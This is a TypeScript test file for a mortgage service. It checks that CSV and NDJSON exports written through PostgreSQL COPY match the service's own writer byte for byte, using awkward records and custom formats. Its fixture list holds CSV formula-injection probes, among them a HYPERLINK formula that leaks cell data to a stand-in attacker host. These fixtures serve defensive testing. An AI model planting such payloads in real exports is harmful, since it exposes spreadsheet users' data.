/**
 * The bytes of an export are what the service's own writers (src/domain/exports/) write for the
 * same records, on either engine. On PostgreSQL a CSV export's lines are written by the database
 * (COPY, src/store/exportCsvLines.ts): this is where that SQL is held to CsvWriter, byte for byte,
 * over awkward records (quotes, delimiters, CR and LF, formula starts and their full-width forms,
 * Unicode, control characters, empty and null cells, every status, amounts of every shape, with
 * and without a bank verification, the latest of several picked) and every layout: the built-in
 * one, selected fields, one column, filters, and custom formats. NDJSON, which PostgreSQL reads
 * through the cursor with the verifications joined, is compared too.
 */
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { completeCsvOptions, type CsvFormatOptions } from '../../../src/domain/exports/csv.ts';
import { parseFieldList, type ExportSource } from '../../../src/domain/exports/fields.ts';
import { createExportWriter, specOfCustomFormat, type ExportFormatSpec } from '../../../src/domain/exports/formats.ts';
import { exportRecordRenderer, FIRST_VERSION } from '../../../src/domain/versions/registry.ts';
import { fromCents, fromCentsOrNull } from '../../../src/domain/applications/money.ts';
import { insertApplication } from '../../../src/store/applications.ts';
import { insertBankPartner } from '../../../src/store/bankPartners.ts';
import { insertBankVerification } from '../../../src/store/bankVerifications.ts';
import type { Store } from '../../../src/store/store.ts';
import { startTestApp, type TestAccount, type TestApp } from '../../helpers/testApp.ts';
import { exportSource } from '../../unit/domain/exports/arbitraries.ts';
import { EMPTY_APPLICATION_DATA } from '../../../src/domain/applications/applicationData.ts';

const STATUSES = ['draft', 'submitted', 'approved', 'declined', 'referred', 'withdrawn', 'clear_to_close'] as const;
const PARTNER = 'bnk-01JDPARITY0000000000000001';

/** Text that breaks CSV, one kind per entry. */
const AWKWARD = [
  'Jane Doe',
  'Doe, Jane',
  'Jane "JD" Doe',
  '"',
  'Jane\nDoe',
  'Jane\r\nDoe',
  'Jane\rDoe',
  '=HYPERLINK("http://attacker.test/?leak="&A1,"Click")',
  '+1 555',
  '-2+3 Smith',
  '@SUM(1+1)',
  '\tTabbed',
  '\nLeading line break',
  '\uFF1D1+1',
  '\uFF0B1',
  '\uFF0D1',
  '\uFF20x',
  'Zoë Łukasiewicz-Ørsted 王秀英 Ирина 😀',
  'semi;colon|pipe\ttab',
  "O'Brien",
  '\\ back\\slash \\N',
  '\u0001control\u007f',
  ' ',
  '',
];

const AMOUNTS = [1, 5, 10, 50, 99, 100, 150, 105, 35_000_050, 35_000_000, 123_456_789, 900_719_925_474_099];

const at = (n: number) => new Date(Date.UTC(2026, 0, 1) + n * 3_723_456).toISOString();

let app: TestApp;
let lender: TestAccount;
/** What each export must hold: the records as the service reads them, oldest (lowest id) first. */
let expected: ExportSource[] = [];
let copies = 0;

function record(i: number, name: string, overrides: Partial<ExportSource> = {}): ExportSource {
  return {
    mortgageId: `mtg-01jdparity${String(i).padStart(16, '0')}`,
    status: STATUSES[i % STATUSES.length]!,
    applicantName: name,
    applicantEmail: i % 5 === 0 ? null : i % 7 === 0 ? '' : AWKWARD[(i * 3) % AWKWARD.length]!,
    amountCents: AMOUNTS[i % AMOUNTS.length]!,
    annualIncomeCents: i % 4 === 0 ? null : AMOUNTS[(i + 3) % AMOUNTS.length]!,
    monthlyDebtsCents: i % 6 === 0 ? null : i % 6 === 1 ? 0 : AMOUNTS[(i + 5) % AMOUNTS.length]!,
    creditScore: i % 3 === 0 ? null : 300 + i,
    termYears: 1 + (i % 40),
    propertyValueCents: i % 8 === 0 ? null : AMOUNTS[(i + 7) % AMOUNTS.length]!,
    currency: 'USD',
    quoteId: i % 2 === 0 ? null : `qte-01jdparity${String(i).padStart(16, '0')}`,
    createdAt: at(i),
    submittedAt: i % 3 === 0 ? null : at(i + 1),
    decidedAt: i % 4 === 0 ? null : at(i + 2),
    withdrawnAt: i % 5 === 0 ? at(i + 3) : null,
    updatedAt: at(i + 4),
    bankVerification: null,
    ...overrides,
  };
}

/** Stores `r` and, for each of `verifications` (the last of which is the latest), a verification. */
async function store(r: ExportSource, verifications: Array<{ id: string; verified: boolean; mask: string; checkedAt: string }>): Promise<void> {
  await app.ctx.store.transaction(async (tx) => {
    await insertApplication(tx, {
      ...EMPTY_APPLICATION_DATA,
      mortgageId: r.mortgageId,
      accountId: lender.accountId,
      status: r.status,
      applicantName: r.applicantName,
      applicantEmail: r.applicantEmail,
      amount: fromCents(r.amountCents),
      annualIncome: fromCentsOrNull(r.annualIncomeCents),
      monthlyDebts: fromCentsOrNull(r.monthlyDebtsCents),
      creditScore: r.creditScore,
      termYears: r.termYears,
      propertyValue: fromCentsOrNull(r.propertyValueCents),
      quoteId: r.quoteId,
      decision: null,
      submittedAt: r.submittedAt,
      decidedAt: r.decidedAt,
      withdrawnAt: r.withdrawnAt,
      createdAt: r.createdAt,
      updatedAt: r.updatedAt,
    });
    for (const v of verifications) {
      await insertBankVerification(tx, {
        verificationId: v.id,
        accountId: lender.accountId,
        mortgageId: r.mortgageId,
        partnerId: PARTNER,
        verified: v.verified,
        accountMask: v.mask,
        accountNumberHash: 'parity',
        linkedAccountHash: 'parity',
        nameScore: 1,
        nameOutcome: 'match',
        failedChecks: [],
        checkedAt: v.checkedAt,
      });
    }
  });
}

beforeAll(async () => {
  app = await startTestApp();
  lender = await app.newAccount('Parity Lender');
  await app.ctx.store.transaction((tx) =>
    insertBankPartner(tx, {
      partnerId: PARTNER,
      name: 'Parity Bank',
      connector: 'sandbox',
      baseUrl: null,
      credentialSealed: null,
      restricted: false,
      disabledAt: null,
      createdAt: at(0),
      updatedAt: at(0),
    }),
  );
  const records: Array<{ r: ExportSource; verifications: Parameters<typeof store>[1] }> = [];
  // Every awkward text in every text field of some record, every status, nulls and amounts by turns.
  AWKWARD.forEach((name, i) => {
    const mask = AWKWARD[(i + 11) % AWKWARD.length]!;
    const r = record(i, name);
    if (i % 3 === 0) {
      records.push({ r, verifications: [] });
    } else if (i % 3 === 1) {
      // Three verifications: the latest is the one checked last.
      const verifications = [
        { id: `bvf-01jdparity${i}b`, verified: true, mask: '0000', checkedAt: at(i + 1) },
        { id: `bvf-01jdparity${i}a`, verified: i % 2 === 0, mask, checkedAt: at(i + 9) },
        { id: `bvf-01jdparity${i}c`, verified: true, mask: '1111', checkedAt: at(i + 5) },
      ];
      records.push({ r: { ...r, bankVerification: { verified: i % 2 === 0, accountMask: mask, checkedAt: at(i + 9) } }, verifications });
    } else {
      // Two checked in the same millisecond: the greater id is the latest.
      const verifications = [
        { id: `bvf-01jdparity${i}z`, verified: false, mask, checkedAt: at(i + 2) },
        { id: `bvf-01jdparity${i}y`, verified: true, mask: '2222', checkedAt: at(i + 2) },
      ];
      records.push({ r: { ...r, bankVerification: { verified: false, accountMask: mask, checkedAt: at(i + 2) } }, verifications });
    }
  });
  // Generated records (fixed seed): any Unicode text, amounts and times, some verified. PostgreSQL
  // text holds neither NUL nor half a surrogate pair, which no request can store either.
  const storable = (text: string | null) => text === null || (text.isWellFormed() && !text.includes('\0'));
  const generated = fc
    .sample(exportSource, { numRuns: 150, seed: 20261126 })
    .filter((r) => storable(r.applicantName) && storable(r.applicantEmail));
  generated.forEach((r, i) => {
    const mortgageId = `mtg-01jdparityz${String(i).padStart(15, '0')}`;
    const bank = r.bankVerification;
    records.push({
      r: { ...r, mortgageId, currency: 'USD' },
      verifications: bank === null ? [] : [{ id: `bvf-01jdparityz${i}`, verified: bank.verified, mask: bank.accountMask, checkedAt: bank.checkedAt }],
    });
  });
  for (const { r, verifications } of records) await store(r, verifications);
  expected = records.map(({ r }) => r).sort((a, b) => (a.mortgageId < b.mortgageId ? -1 : 1));

  const engine = app.ctx.store as Store;
  const copyText = engine.copyText?.bind(engine);
  if (copyText) {
    engine.copyText = (select) => {
      copies++;
      return copyText(select);
    };
  }
}, 120_000);
afterAll(() => app?.close());

async function exportBytes(query: Record<string, string>, version?: string): Promise<Buffer> {
  const headers = { Authorization: `Bearer ${lender.apiKey}`, ...(version ? { 'Mos-Version': version } : {}) };
  const response = await app.fetch(`/v1/mortgages/export?${new URLSearchParams(query)}`, { headers });
  expect(response.status).toBe(200);
  return Buffer.from(await response.arrayBuffer());
}

/** What the service's own writer writes for `rows`. */
function written(spec: ExportFormatSpec, fields: string | null, rows: readonly ExportSource[]): Buffer {
  const parsed = fields === null ? null : parseFieldList(fields);
  if (parsed !== null && !parsed.ok) throw new Error(`unknown fields ${parsed.unknown.join(', ')}`);
  const writer = createExportWriter(spec, parsed === null ? null : parsed.fields, '2026-11-26T00:00:00.000Z');
  return Buffer.from(writer.begin() + writer.batch(rows) + writer.end(), 'utf8');
}

/** Exports through the API and compares with the writer; returns whether PostgreSQL wrote it (COPY). */
async function expectParity(query: Record<string, string>, spec: ExportFormatSpec, rows: readonly ExportSource[] = expected, version?: string): Promise<boolean> {
  const before = copies;
  const bytes = await exportBytes(query, version);
  const want = written(spec, query.fields ?? null, rows);
  // Compared as text first for a readable difference, then as bytes.
  expect(bytes.toString('utf8')).toBe(want.toString('utf8'));
  expect(bytes.equals(want)).toBe(true);
  return copies > before;
}

const builtInCsv: ExportFormatSpec = { base: 'csv', custom: null };

describe('CSV export: the bytes the service writes, on either engine', () => {
  it('has awkward records to compare (the setup stored them all)', () => {
    expect(expected.length).toBeGreaterThan(AWKWARD.length + 100);
    expect(expected.filter((r) => r.bankVerification !== null).length).toBeGreaterThan(20);
  });

  it('writes the built-in CSV, every field, as CsvWriter does (PostgreSQL: through COPY)', async () => {
    const copied = await expectParity({ format: 'csv' }, builtInCsv);
    expect(copied).toBe(app.engine === 'postgres');
  });

  it('writes selected fields in the order asked, and one column with "" for an empty cell', async () => {
    await expectParity({ format: 'csv', fields: 'bankVerification.checkedAt,applicant.name,applicant.amount,status,bankVerification.verified,currency' }, builtInCsv);
    await expectParity({ format: 'csv', fields: 'applicant.email' }, builtInCsv);
    await expectParity({ format: 'csv', fields: 'applicant.monthlyDebts' }, builtInCsv);
  });

  it("writes the first version's CSV as its renderer does, clear_to_close as approved (PostgreSQL: still through COPY), filters in its names", async () => {
    const render = exportRecordRenderer(FIRST_VERSION)!;
    expect(expected.some((r) => r.status === 'clear_to_close')).toBe(true);
    const copied = await expectParity({ format: 'csv' }, builtInCsv, expected.map(render), FIRST_VERSION);
    expect(copied).toBe(app.engine === 'postgres');
    await expectParity({ format: 'csv', fields: 'status,mortgageId' }, builtInCsv, expected.map(render), FIRST_VERSION);
    const approvedThere = expected.filter((r) => r.status === 'approved' || r.status === 'clear_to_close').map(render);
    await expectParity({ format: 'csv', status: 'approved' }, builtInCsv, approvedThere, FIRST_VERSION);
  });

  it('applies the status and creation-time filters as the writer sees them', async () => {
    for (const status of STATUSES) {
      await expectParity({ format: 'csv', status }, builtInCsv, expected.filter((r) => r.status === status));
    }
    const from = at(5);
    const to = at(15);
    await expectParity({ format: 'csv', createdFrom: from, createdTo: to }, builtInCsv, expected.filter((r) => r.createdAt >= from && r.createdAt < to));
  });

  it.each<{ name: string; csv: CsvFormatOptions; copied: boolean }>([
    { name: 'semicolon-dates', csv: { delimiter: ';', dateFormat: 'date', booleanFormat: 'yesNo', byteOrderMark: true, includeHeader: false }, copied: true },
    { name: 'tab-unix', csv: { delimiter: '\t', dateFormat: 'unixSeconds', booleanFormat: 'oneZero' }, copied: true },
    {
      name: 'pipe-columns',
      csv: {
        delimiter: '|',
        dateFormat: 'dateTime',
        columns: [
          { field: 'applicant.name', header: '=Name|"quoted"' },
          { field: 'bankVerification.accountMask' },
          { field: 'updatedAt', header: 'Updated' },
          { field: 'applicant.name', header: 'Again' },
          { field: 'propertyValue' },
        ],
      },
      copied: true,
    },
    // Amounts in a custom style are written by the service on either engine.
    { name: 'european-money', csv: { delimiter: ';', decimalSeparator: ',', thousandsSeparator: '.', moneyDecimals: 'two' }, copied: false },
    { name: 'comma-decimal', csv: { decimalSeparator: ',' }, copied: false },
  ])('writes the custom format $name as CsvWriter does', async ({ name, csv, copied }) => {
    const { response } = await lender.client.POST('/v1/export-formats', { body: { name, base: 'csv', csv } });
    expect(response.status).toBe(201);
    const viaCopy = await expectParity({ format: name }, specOfCustomFormat({ base: 'csv', csv: completeCsvOptions(csv) }));
    expect(viaCopy).toBe(app.engine === 'postgres' && copied);
  });

  it('writes NDJSON as its writer does (PostgreSQL: the cursor, the latest verification joined)', async () => {
    const copied = await expectParity({ format: 'ndjson' }, { base: 'ndjson' });
    expect(copied).toBe(false);
  });
});
